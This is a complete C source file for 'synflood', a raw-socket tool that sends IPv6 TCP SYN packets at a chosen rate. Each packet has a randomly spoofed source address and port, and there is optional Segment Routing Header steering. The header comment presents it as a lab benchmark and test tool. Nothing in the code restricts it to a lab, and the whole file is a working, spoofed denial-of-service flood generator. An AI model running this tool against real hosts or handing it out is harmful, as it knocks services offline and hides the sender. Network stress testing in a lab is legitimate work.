/*
 * synflood: spoofed TCP SYNs at a steady rate, for the lab's SYN-flood benchmark and test.
 *
 *   synflood DEST PORT RATE SECONDS SPOOF_PREFIX [SEGMENT...]
 *
 * Sends RATE SYNs per second for SECONDS seconds to [DEST]:PORT from random addresses of
 * SPOOF_PREFIX (a /64: the low 64 bits are random) and random ports. With SEGMENTs, every
 * SYN carries an SRH [DEST, SEGMENT_n .. SEGMENT_1] whose active segment is the first
 * SEGMENT (as a client steered through a proxy sends it: the packet goes to SEGMENT_1,
 * DEST is its final destination) and the TCP checksum covers DEST, as RFC 8200 wants.
 * Prints "sent N" at the end. Every SYN has a fresh source address and port, so each one
 * takes a new place in a SYN queue, like a real spoofed flood; their SYN-ACKs go nowhere.
 *
 * A lab tool: raw socket (CAP_NET_RAW), paced in batches of 1 ms.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEGMENTS 8

static uint64_t xorshift_state;

static uint64_t next_random(void)
{
	uint64_t x = xorshift_state;
	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	return xorshift_state = x;
}

static uint32_t sum16(const void *data, size_t length, uint32_t sum)
{
	const uint8_t *p = data;
	for (size_t i = 0; i + 1 < length; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	if (length & 1)
		sum += (uint32_t)p[length - 1] << 8;
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct in6_addr dest, spoof, segments[MAX_SEGMENTS];
	int nseg = argc - 6;
	if (argc < 6 || nseg > MAX_SEGMENTS) {
		fprintf(stderr, "usage: synflood DEST PORT RATE SECONDS SPOOF_PREFIX [SEGMENT...]\n");
		return 2;
	}
	long port = strtol(argv[2], NULL, 10), rate = strtol(argv[3], NULL, 10);
	double seconds = strtod(argv[4], NULL);
	if (inet_pton(AF_INET6, argv[1], &dest) != 1 || inet_pton(AF_INET6, argv[5], &spoof) != 1 ||
	    port < 1 || port > 65535 || rate < 1 || seconds <= 0) {
		fprintf(stderr, "synflood: bad argument\n");
		return 2;
	}
	for (int i = 0; i < nseg; i++)
		if (inet_pton(AF_INET6, argv[6 + i], &segments[i]) != 1) {
			fprintf(stderr, "synflood: bad segment %s\n", argv[6 + i]);
			return 2;
		}
	if (getrandom(&xorshift_state, sizeof(xorshift_state), 0) != sizeof(xorshift_state) ||
	    !xorshift_state)
		xorshift_state = 0x9e3779b97f4a7c15ULL;

	int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);   /* IPPROTO_RAW: we write the header */
	if (fd < 0) {
		perror("synflood: raw socket");
		return 1;
	}

	/* The packet: IPv6 (40) [+ SRH (8 + 16 * (nseg + 1))] + TCP SYN (20). */
	uint8_t packet[40 + 8 + 16 * (MAX_SEGMENTS + 1) + 20];
	size_t srh_len = nseg ? 8 + 16 * (size_t)(nseg + 1) : 0;
	size_t length = 40 + srh_len + 20;
	uint8_t *ip = packet, *srh = packet + 40, *tcp = packet + 40 + srh_len;
	memset(packet, 0, sizeof(packet));
	ip[0] = 0x60;
	ip[4] = (uint8_t)((srh_len + 20) >> 8);
	ip[5] = (uint8_t)(srh_len + 20);
	ip[6] = nseg ? 43 : 6;
	ip[7] = 64;
	struct in6_addr *first_hop = nseg ? &segments[0] : &dest;
	memcpy(ip + 24, first_hop, 16);
	if (nseg) {
		srh[0] = 6;                         /* next header: TCP */
		srh[1] = (uint8_t)(2 * (nseg + 1)); /* length in 8-byte units, the first 8 aside */
		srh[2] = 4;                         /* routing type: SRH */
		srh[3] = (uint8_t)nseg;             /* segments left: the first segment is active */
		srh[4] = (uint8_t)nseg;             /* last entry */
		memcpy(srh + 8, &dest, 16);         /* segments[0]: the final destination */
		for (int i = 0; i < nseg; i++)      /* travel order reversed */
			memcpy(srh + 8 + 16 * (nseg - i), &segments[i], 16);
	}
	tcp[2] = (uint8_t)(port >> 8);
	tcp[3] = (uint8_t)port;
	tcp[12] = 5 << 4;                           /* data offset: 20 bytes */
	tcp[13] = 0x02;                             /* SYN */
	tcp[14] = 0xff;                             /* window */
	tcp[15] = 0xff;

	struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_addr = *first_hop};
	double start = now(), end = start + seconds;
	uint64_t sent = 0, errors = 0;
	long per_ms = rate / 1000, remainder = rate % 1000;
	for (long tick = 0;; tick++) {
		double due = start + tick / 1000.0;
		if (due >= end)
			break;
		double wait = due - now();
		if (wait > 0) {
			struct timespec ts = {(time_t)wait, (long)((wait - (time_t)wait) * 1e9)};
			nanosleep(&ts, NULL);
		}
		long batch = per_ms + ((tick % 1000) < remainder ? 1 : 0);
		for (long i = 0; i < batch; i++) {
			uint64_t r = next_random();
			memcpy(ip + 8, &spoof, 8);
			memcpy(ip + 16, &r, 8);              /* random interface identifier */
			r = next_random();
			tcp[0] = (uint8_t)(1024 + (r % 60000) >> 8);
			tcp[1] = (uint8_t)(1024 + (r % 60000));
			memcpy(tcp + 4, (uint8_t *)&r + 2, 4); /* random sequence number */
			tcp[16] = tcp[17] = 0;
			/* Checksum over the pseudo-header with the final destination, then TCP. */
			uint32_t sum = sum16(ip + 8, 16, 0);
			sum = sum16(&dest, 16, sum);
			sum += 20 + 6;
			sum = sum16(tcp, 20, sum);
			uint16_t check = fold(sum);
			tcp[16] = (uint8_t)(check >> 8);
			tcp[17] = (uint8_t)check;
			if (sendto(fd, packet, length, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
				errors++;
			else
				sent++;
		}
	}
	printf("sent %llu errors %llu seconds %.2f\n", (unsigned long long)sent,
	       (unsigned long long)errors, now() - start);
	close(fd);
	return 0;
}
